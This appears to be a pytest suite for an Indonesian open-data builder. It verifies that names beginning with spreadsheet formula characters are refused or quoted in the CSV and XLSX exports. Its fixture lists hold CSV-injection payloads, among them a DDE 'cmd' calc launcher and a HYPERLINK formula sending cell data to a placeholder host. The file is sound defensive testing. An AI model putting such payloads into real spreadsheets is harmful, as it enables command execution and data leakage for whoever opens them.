"""Hostile corpus, class 4: open data never hands a spreadsheet a formula.

By the OWASP CSV-injection rule, a text cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return (after trimming) is either refused at the door or published
with a leading ``'``, in the CSV files and in the workbook alike. Numbers (negative ones
included) stay numbers, and ordinary text is published unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from conftest import OPD, tulis
from tangguh import proyek_kecil, skm

from skm_build.cli import main

# Names the loader accepts that a spreadsheet would still run or read as a formula.
NAMA = [
    '+ HYPERLINK("http://contoh.invalid/?x="&A1, "klik")', "- SUM(1+1)", "-2+3",
    "+ cmd|' /C calc'!A0", "- 1", "+62 Layanan Terpadu", "-Dinas Baru-", "--- unit ---",
    "+ (1)",
]
BIASA = ["Dinas Kesehatan", "Puskesmas Jaten 1", "RSUD dr. Soediran", "Unit (ULP) - Timur"]
JAWABAN = "diterima: 2025-07-10\njawaban:\n" + "".join(
    f"  u{i}: [0, 1, 2, 1]\n" for i in range(1, 10))


@pytest.fixture(scope="module")
def terbuka(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The open data of a site whose units carry every hostile and ordinary name."""
    akar = proyek_kecil(tmp_path_factory.mktemp("rumus") / "proyek")
    semua = NAMA + BIASA
    opd = OPD + "".join(f"- id: unit-{i}\n  nama: {json.dumps(n)}\n  jenis: dinas\n"
                        for i, n in enumerate(semua))
    tulis(akar / "data", "opd.yaml", opd)
    for i in range(len(semua)):
        tulis(akar / "data", f"survei/2025-s1/unit-{i}.yaml", JAWABAN)
    r = skm(akar, "build")
    assert r.kode == 0, r.err
    return akar / "site" / "data" / "2025-s1"


def nama_csv(folder: Path) -> dict[str, str]:
    baris = csv.DictReader(io.StringIO((folder / "hasil-unit.csv").read_text("utf-8")))
    return {b["opd"]: b["nama"] for b in baris}


def nama_xlsx(folder: Path) -> dict[str, str]:
    from openpyxl import load_workbook

    wb = load_workbook(folder / "skm.xlsx", read_only=True)
    ws = wb["hasil-unit"] if "hasil-unit" in wb.sheetnames else wb.worksheets[1]
    baris = list(ws.iter_rows(values_only=True))
    judul = list(baris[0])
    return {r[judul.index("opd")]: r[judul.index("nama")] for r in baris[1:]}


@pytest.mark.parametrize("i", range(len(NAMA)), ids=NAMA)
def test_nama_berawalan_rumus_diberi_petik_di_csv(terbuka: Path, i: int) -> None:
    assert nama_csv(terbuka)[f"unit-{i}"] == "'" + NAMA[i]


@pytest.mark.parametrize("i", range(len(NAMA)), ids=NAMA)
def test_nama_berawalan_rumus_diberi_petik_di_xlsx(terbuka: Path, i: int) -> None:
    assert nama_xlsx(terbuka)[f"unit-{i}"] == "'" + NAMA[i]


@pytest.mark.parametrize("j", range(len(BIASA)), ids=BIASA)
def test_nama_biasa_terbit_tanpa_perubahan(terbuka: Path, j: int) -> None:
    ident = f"unit-{len(NAMA) + j}"
    assert nama_csv(terbuka)[ident] == BIASA[j]
    assert nama_xlsx(terbuka)[ident] == BIASA[j]


def test_xlsx_tidak_memuat_rumus_sama_sekali(terbuka: Path) -> None:
    with zipfile.ZipFile(terbuka / "skm.xlsx") as z:
        for nama in z.namelist():
            if nama.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(nama) and b"<f " not in z.read(nama)


def test_angka_negatif_tetap_angka(terbuka: Path) -> None:
    """`perubahan` may be negative: a number cell, never a quoted text."""
    teks = (terbuka / "ringkasan-kabupaten.csv").read_text("utf-8")
    assert "'" not in teks


@pytest.mark.parametrize("nama", ["=1+1", "@SUM(A1)", "=HYPERLINK(\"x\")", " =1", "+SUM(1)",
                                  "-cmd|x", "\t=1"])
def test_rumus_terang_terangan_ditolak_di_pintu(data: Path, capsys, nama: str) -> None:
    tulis(data, "opd.yaml", OPD.replace("nama: Kecamatan Jaten", f"nama: {json.dumps(nama)}"))
    capsys.readouterr()
    kode = main(["check", "--data", str(data)])
    err = capsys.readouterr().err
    assert kode == 1
    assert "opd.yaml:6" in err and "rumus" in err
